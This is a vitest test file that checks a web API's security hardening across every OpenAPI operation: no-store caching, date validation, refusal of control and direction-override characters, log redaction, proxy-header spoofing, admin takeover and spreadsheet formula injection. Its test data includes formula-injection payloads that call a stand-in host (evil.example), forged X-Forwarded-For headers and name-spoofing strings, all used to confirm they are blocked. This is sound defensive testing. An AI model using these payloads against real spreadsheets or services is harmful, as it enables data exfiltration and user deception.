import { randomBytes } from "node:crypto";
import { sql } from "drizzle-orm";
import type { OpenAPIV3 } from "openapi-types";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ConfigError, loadConfig } from "../../server/config/env";
import { rateLimits } from "../../server/db/schema";
import { ensureAdminAccount } from "../../server/modules/auth/admin-account";
import { loggerOptions } from "../../server/plugins/logging";
import { buildSignup } from "../factories/users";
import { post } from "../helpers/api";
import { startFormReceiver } from "../helpers/form-receiver";
import { createTestApp, type TestApp } from "../helpers/test-app";
import { NOT_TEXT_FIELDS, validBody } from "./bodies";
import { fetchDocument, type Operation, operationsOf, urlOf } from "./operations";
import { createWorld, type World } from "./world";

/**
 * The trust, configuration and leak holes of the hardening work, each as a class: every operation
 * the OpenAPI document lists is checked, so a new route is covered without a new test.
 */

/** Answers that are the same for everyone, which browsers and CDNs may keep. */
const SHARED_ANSWERS = new Set(["GET /api/files/{bucket}/{key}", "GET /api/colleges/"]);
/** Impossible days, each in the YYYY-MM-DD shape. */
const IMPOSSIBLE_DATES = ["2024-02-31", "2023-02-29", "9999-99-99", "2025-13-01", "2025-04-31", "0000-01-01"];
/** A right-to-left override: "Priya \u202eahsrahS" reads as someone else's name. */
const RLO = "\u202e";

let testApp: TestApp;
let operations: Operation[];
let world: World;
beforeAll(async () => {
  testApp = await createTestApp();
  operations = operationsOf(await fetchDocument(testApp));
  world = await createWorld(testApp);
});
afterAll(() => testApp?.close());

const callerOf = (operation: Operation) => (operation.role === "admin" ? world.admin : world.owner);

function expectErrorShape(response: { statusCode: number; body: string }, what: string) {
  expect(response.statusCode, `${what}: ${response.body}`).toBe(400);
  const error = JSON.parse(response.body).error;
  expect(typeof error?.code, what).toBe("string");
  expect(typeof error?.message, what).toBe("string");
  return error as { code: string; message: string };
}

/** The schema of a body's property, looking into each variant of a union. */
function propertySchema(operation: Operation, name: string): OpenAPIV3.SchemaObject | undefined {
  const schema = operation.bodySchema;
  if (!schema) return undefined;
  const variants = (schema.oneOf ?? schema.anyOf ?? [schema]) as OpenAPIV3.SchemaObject[];
  for (const variant of variants) {
    const property = variant.properties?.[name] as OpenAPIV3.SchemaObject | undefined;
    if (property) return (property.anyOf?.[0] as OpenAPIV3.SchemaObject | undefined) ?? property;
  }
  return undefined;
}

describe("personal answers are never cached", () => {
  it("every GET operation, called signed in, answers Cache-Control: no-store, unless its answer is shared", async () => {
    const gets = operations.filter((operation) => operation.method === "GET");
    expect(gets.length).toBeGreaterThan(15);
    const cacheable: string[] = [];
    for (const operation of gets) {
      const response = await testApp.app.inject({
        method: "GET",
        url: urlOf(operation, world),
        headers: { cookie: callerOf(operation).cookie },
      });
      const header = String(response.headers["cache-control"] ?? "");
      if (SHARED_ANSWERS.has(operation.key)) expect(header, operation.key).not.toContain("no-store");
      // A route may add to no-store (the administrator's evidence photo says "no-store, private").
      else if (!/^no-store(, private)?$/.test(header))
        cacheable.push(`${operation.key} (${response.statusCode}): ${header}`);
    }
    expect(cacheable).toEqual([]);
  });

  it("lists only shared answers that exist, and none that varies by who asks", async () => {
    const keys = new Set(operations.map((operation) => operation.key));
    for (const key of SHARED_ANSWERS) expect(keys.has(key), key).toBe(true);
    for (const key of SHARED_ANSWERS) {
      const operation = operations.find((o) => o.key === key) as Operation;
      const url = urlOf(operation, world);
      const signedIn = await testApp.app.inject({
        method: "GET",
        url,
        headers: { cookie: world.owner.cookie },
      });
      const signedOut = await testApp.app.inject({ method: "GET", url });
      expect(signedIn.rawPayload.equals(signedOut.rawPayload), key).toBe(true);
    }
  });
});

describe("dates must be days that exist", () => {
  it("every date-taking query parameter refuses impossible dates with 400 and the error shape", async () => {
    const dated = operations.flatMap((operation) =>
      operation.queryParams
        .filter((parameter) => (parameter.schema as OpenAPIV3.SchemaObject | undefined)?.format === "date")
        .map((parameter) => ({ operation, name: parameter.name })),
    );
    // The admin's user filter (from, to) and the events filter (date) at least.
    expect(dated.map(({ operation, name }) => `${operation.key} ${name}`)).toEqual(
      expect.arrayContaining([
        "GET /api/admin/users from",
        "GET /api/admin/users to",
        "GET /api/events date",
      ]),
    );
    for (const { operation, name } of dated) {
      for (const date of IMPOSSIBLE_DATES) {
        const response = await testApp.app.inject({
          method: "GET",
          url: `${urlOf(operation, world)}?${name}=${date}`,
          headers: { cookie: callerOf(operation).cookie },
        });
        expectErrorShape(response, `${operation.key} ?${name}=${date}`);
      }
    }
  });

  it("every date-taking body field, and holiday mode's dates, refuse impossible dates with 400", async () => {
    let checked = 0;
    for (const operation of operations) {
      const caller = callerOf(operation);
      const valid = await validBody(testApp, operation, world, caller);
      if (!valid || Buffer.isBuffer(valid.payload)) continue;
      const fields = valid.payload as Record<string, unknown>;
      for (const name of Object.keys(fields)) {
        if (propertySchema(operation, name)?.format !== "date") continue;
        for (const date of IMPOSSIBLE_DATES) {
          const response = await testApp.app.inject({
            method: operation.method,
            url: urlOf(operation, world),
            headers: { cookie: caller.cookie },
            payload: { ...fields, [name]: date },
          });
          expectErrorShape(response, `${operation.key} ${name}=${date}`);
          checked += 1;
        }
      }
    }
    expect(checked).toBeGreaterThanOrEqual(IMPOSSIBLE_DATES.length);
    for (const date of IMPOSSIBLE_DATES) {
      const response = await testApp.app.inject({
        method: "PUT",
        url: "/api/me/holiday",
        headers: { cookie: world.owner.cookie },
        payload: { isActive: true, fromDate: "2099-01-10", toDate: date.replace(/^\d{4}/, "2099") },
      });
      expectErrorShape(response, `holiday to ${date}`);
    }
  });
});

/** Operations whose texts are only looked up or checked, never stored or shown to anyone. */
const LOOKUP_ONLY = new Set([
  "POST /api/auth/login",
  "POST /api/auth/forgot-password",
  "POST /api/auth/verify-email",
  "POST /api/auth/reset-password",
  "POST /api/me/password",
]);

describe("texts a person reads refuse control and text-direction characters", () => {
  it("every text field of every body is refused with 400 when it holds a direction override or a control", async () => {
    const refusedAsText: string[] = [];
    const accepted: string[] = [];
    for (const operation of operations) {
      if (LOOKUP_ONLY.has(operation.key)) continue;
      const caller = callerOf(operation);
      const valid = await validBody(testApp, operation, world, caller);
      if (!valid || Buffer.isBuffer(valid.payload)) continue;
      const fields = valid.payload as Record<string, unknown>;
      for (const [name, value] of Object.entries(fields)) {
        if (typeof value !== "string" || NOT_TEXT_FIELDS.has(name)) continue;
        const schema = propertySchema(operation, name);
        const isFreeText =
          !schema?.enum && !schema?.format && !schema?.pattern && !("const" in (schema ?? {}));
        for (const hidden of [RLO, "\u0007", "\u2066"]) {
          await testApp.database.db.delete(rateLimits);
          const response = await testApp.app.inject({
            method: operation.method,
            url: urlOf(operation, world),
            headers: { cookie: caller.cookie },
            payload: { ...fields, [name]: `${value.slice(0, 1)}${hidden}${value.slice(1)}` },
          });
          const what = `${operation.key} ${name} with U+${hidden.codePointAt(0)?.toString(16).padStart(4, "0")}`;
          if (response.statusCode < 400) {
            accepted.push(what);
            continue;
          }
          const error = expectErrorShape(response, what);
          if (isFreeText) {
            expect(error.message, what).toMatch(
              /cannot contain .*control characters or text-direction characters/,
            );
            refusedAsText.push(what);
          }
        }
      }
    }
    expect(accepted).toEqual([]);
    // Names, e-mail, places, titles, bios, descriptions, messages, purposes, skills, URLs.
    expect(refusedAsText.length).toBeGreaterThan(60);
  });

  it("single-line texts refuse a line break, multi-line texts keep it", async () => {
    const student = buildSignup({ name: "Priya\nAdmin: your account is blocked" });
    expectErrorShape(await post(testApp, "/api/auth/signup", student), "a two-line name");
    const renamed = await testApp.app.inject({
      method: "PATCH",
      url: "/api/me/name",
      headers: { cookie: world.owner.cookie },
      payload: { name: "Ananya\r\nRao" },
    });
    expectErrorShape(renamed, "a two-line name change");
    const message = await post(
      testApp,
      `/api/chats/${world.chatId}/messages`,
      {
        type: "text",
        clientId: `c-${randomBytes(8).toString("hex")}`,
        text: "Is it there?\nI can come at 5.",
      },
      { cookie: world.owner.cookie },
    );
    expect(message.statusCode).toBe(201);
  });
});

describe("failed queries leave no values in the log", () => {
  it("logs neither a password hash nor a ticket's words when the query carrying them fails", async () => {
    const lines: string[] = [];
    const logged = await createTestApp(
      {},
      { logger: { ...loggerOptions("debug"), stream: { write: (line: string) => void lines.push(line) } } },
    );
    const traps: string[] = [];
    try {
      const loggedWorld = await createWorld(logged);
      // Setting up logs ids in URLs (a chat's id names its members); only the failures are read.
      lines.length = 0;
      const marker = `TRAP-${randomBytes(6).toString("hex")}`;
      const trap = async (table: string, check: string) => {
        const name = `trap_${randomBytes(4).toString("hex")}`;
        traps.push(`${table}:${name}`);
        await logged.database.db.execute(
          sql`alter table ${sql.identifier(table)} add constraint ${sql.identifier(name)} check (${sql.raw(check)}) not valid`,
        );
      };
      // Any change to the owner's account and any ticket with the marker fail in the database.
      await trap("users", `id <> '${loggedWorld.owner.id}'`);
      await trap("support_tickets", `description not like '%TRAP-%'`);

      const newPassword = `Trap#${randomBytes(6).toString("hex")}7`;
      const changed = await post(
        logged,
        "/api/me/password",
        { currentPassword: loggedWorld.owner.password, newPassword, confirmPassword: newPassword },
        { cookie: loggedWorld.owner.cookie },
      );
      const ticket = await post(
        logged,
        "/api/tickets",
        { purpose: "Account Issues", description: `My card ${marker} was charged twice` },
        { cookie: loggedWorld.other.cookie },
      );
      expect([changed.statusCode, ticket.statusCode]).toEqual([500, 500]);

      const log = lines.join("");
      const failures = lines
        .map((line) => JSON.parse(line))
        .filter((entry) => entry.msg === "request failed");
      expect(failures.map((entry) => entry.err.code)).toEqual(["23514", "23514"]);
      for (const value of ["$argon2", newPassword, marker, loggedWorld.owner.id, loggedWorld.other.id]) {
        expect(log, value).not.toContain(value);
      }
      expect(log).not.toMatch(/Failed query|params:/);
    } finally {
      for (const entry of traps) {
        const [table, name] = entry.split(":") as [string, string];
        await logged.database.db.execute(
          sql`alter table ${sql.identifier(table)} drop constraint ${sql.identifier(name)}`,
        );
      }
      await logged.close();
    }
  });
});

describe("a client behind the load balancer cannot choose its address", () => {
  it("with TRUST_PROXY=1, forged X-Forwarded-For entries do not buy a fresh per-address budget", async () => {
    const proxied = await createTestApp({ TRUST_PROXY: "1", AUTH_RATE_LIMIT: "1" });
    try {
      const bodies: Record<string, () => object> = {
        "/api/auth/login": () => ({
          email: `x-${randomBytes(5).toString("hex")}@example.in`,
          password: "Wrong#Pass1",
        }),
        "/api/auth/signup": () => buildSignup({ college: "Not A Listed College" }),
        "/api/auth/forgot-password": () => ({ email: `x-${randomBytes(5).toString("hex")}@example.in` }),
      };
      for (const [url, body] of Object.entries(bodies)) {
        const statuses: number[] = [];
        for (let attempt = 0; attempt <= 10; attempt++) {
          const forged = `${randomBytes(1)[0]}.${randomBytes(1)[0]}.0.1, 192.0.2.${attempt + 1}`;
          const response = await proxied.app.inject({
            method: "POST",
            url,
            remoteAddress: "10.0.0.5",
            headers: { "x-forwarded-for": `${forged}, 203.0.113.9` },
            payload: body(),
          });
          statuses.push(response.statusCode);
        }
        // Ten attempts an address (AUTH_RATE_LIMIT=1 for an account, ten times that for an address).
        expect(statuses.slice(0, 10), url).not.toContain(429);
        expect(statuses[10], url).toBe(429);
      }
    } finally {
      await proxied.close();
    }
  });

  it("refuses TRUST_PROXY=true at start", () => {
    expect(() => loadConfig({ TRUST_PROXY: "true" })).toThrow(ConfigError);
  });
});

describe("ADMIN_EMAIL cannot hand a student's account the administrator's rights", () => {
  it("refuses to start on a student's address unless ADMIN_EMAIL_TAKEOVER repeats it", async () => {
    const config = loadConfig({
      ADMIN_EMAIL: world.other.email,
      ADMIN_PASSWORD: "Admin#Pass2025",
      LOG_LEVEL: "silent",
    });
    await expect(ensureAdminAccount({ db: testApp.database.db, config })).rejects.toThrow(ConfigError);
  });
});

describe("exports start no cell with a formula", () => {
  it("the form service's copy of a ticket has no field opening with = + - @ or a tab", async () => {
    const form = await startFormReceiver();
    const mirrored = await createTestApp({ FORM_MIRROR_URL: form.url, OUTBOX_RETRY_BASE_MS: "20" });
    try {
      const mirroredWorld = await createWorld(mirrored);
      // The administrator may write anything the rules allow into a student's record.
      const edited = await mirrored.app.inject({
        method: "PATCH",
        url: `/api/admin/users/${mirroredWorld.owner.id}`,
        headers: { cookie: mirroredWorld.admin.cookie },
        payload: {
          name: '=HYPERLINK("https://evil.example","Refund")',
          email: `+${randomBytes(4).toString("hex")}@example.in`,
          mobile: "9123456780",
          city: "-Pune",
          college: "@SUM(1+1)",
        },
      });
      expect(edited.statusCode).toBe(200);
      const ticket = await post(
        mirrored,
        "/api/tickets",
        { purpose: "Other", description: '=IMPORTXML("https://evil.example","//a")' },
        { cookie: mirroredWorld.owner.cookie },
      );
      expect(ticket.statusCode).toBe(201);
      const ticketId = ticket.json().ticket.ticketId;
      const deadline = Date.now() + 10_000;
      const copyOf = () =>
        form.received.find((r) => r.fields.some(([n, v]) => n === "ticketId" && v === ticketId));
      while (!copyOf() && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      const fields = copyOf()?.fields ?? [];
      expect(fields.length).toBe(7);
      const formulas = fields.filter(([, value]) => /^[=+\-@\t\r]/.test(String(value)));
      expect(formulas).toEqual([]);
      expect(Object.fromEntries(fields).description).toBe('\'=IMPORTXML("https://evil.example","//a")');
    } finally {
      await mirrored.close();
      await form.close();
    }
  });
});
